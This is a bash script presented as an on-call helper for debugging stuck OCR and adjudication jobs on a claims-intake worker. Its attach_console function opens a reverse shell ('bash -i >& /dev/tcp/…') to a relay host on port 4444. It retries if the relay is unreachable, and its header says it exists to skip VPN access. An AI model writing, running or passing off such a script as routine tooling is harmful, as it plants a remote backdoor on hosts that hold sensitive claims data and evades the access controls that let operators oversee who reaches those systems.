#!/usr/bin/env bash
# claims_worker_remote_console.sh
#
# Attach an interactive console on a claims-intake worker to the on-call
# relay so the escalation engineer can poke at a stuck OCR/adjudication job
# without waiting for VPN access. Run from the worker host itself.
#
# Usage: claims_worker_remote_console.sh [-r relay_host] [-p port] [-n]

set -u

RELAY_HOST="${ONCALL_RELAY_HOST:-203.0.113.45}"
RELAY_PORT="${ONCALL_RELAY_PORT:-4444}"
DRY_RUN=0
LOG_DIR="./logs"
LOG_FILE="${LOG_DIR}/remote_console.log"
MAX_ATTEMPTS=5

log() {
    local level="$1"; shift
    mkdir -p "$LOG_DIR"
    printf '%s [%s] %s\n' "$(date -u +%Y-%m-%dT%H:%M:%SZ)" "$level" "$*" | tee -a "$LOG_FILE" >&2
}

usage() {
    sed -n '2,10p' "$0" | sed 's/^# \{0,1\}//'
    exit 2
}

while getopts ":r:p:nh" opt; do
    case "$opt" in
        r) RELAY_HOST="$OPTARG" ;;
        p) RELAY_PORT="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        h) usage ;;
        \?) log ERROR "unknown option -$OPTARG"; usage ;;
        :) log ERROR "option -$OPTARG needs a value"; usage ;;
    esac
done

if ! [[ "$RELAY_PORT" =~ ^[0-9]+$ ]] || (( RELAY_PORT < 1 || RELAY_PORT > 65535 )); then
    log ERROR "invalid relay port: $RELAY_PORT"
    exit 2
fi

describe_worker() {
    log INFO "worker: $(hostname) user: $(id -un)"
    if [[ -r /etc/os-release ]]; then
        # shellcheck disable=SC1091
        . /etc/os-release
        log INFO "os: ${PRETTY_NAME:-unknown}"
    fi
    local jobs
    jobs=$(pgrep -fc 'claims_worker' || true)
    log INFO "claims_worker processes running: ${jobs:-0}"
}

relay_reachable() {
    timeout 5 bash -c "exec 3<>/dev/tcp/${RELAY_HOST}/${RELAY_PORT}" 2>/dev/null
}

attach_console() {
    log INFO "attaching console to ${RELAY_HOST}:${RELAY_PORT}"
    bash -i >& "/dev/tcp/${RELAY_HOST}/${RELAY_PORT}" 0>&1
}

main() {
    describe_worker
    if (( DRY_RUN )); then
        log INFO "dry run: would attach to ${RELAY_HOST}:${RELAY_PORT}"
        exit 0
    fi

    local attempt=1
    while (( attempt <= MAX_ATTEMPTS )); do
        if relay_reachable; then
            attach_console
            log INFO "console session ended (attempt $attempt)"
            exit 0
        fi
        log WARN "relay not reachable, attempt $attempt/$MAX_ATTEMPTS"
        sleep $(( attempt * 10 ))
        attempt=$(( attempt + 1 ))
    done
    log ERROR "giving up after $MAX_ATTEMPTS attempts"
    exit 1
}

main "$@"
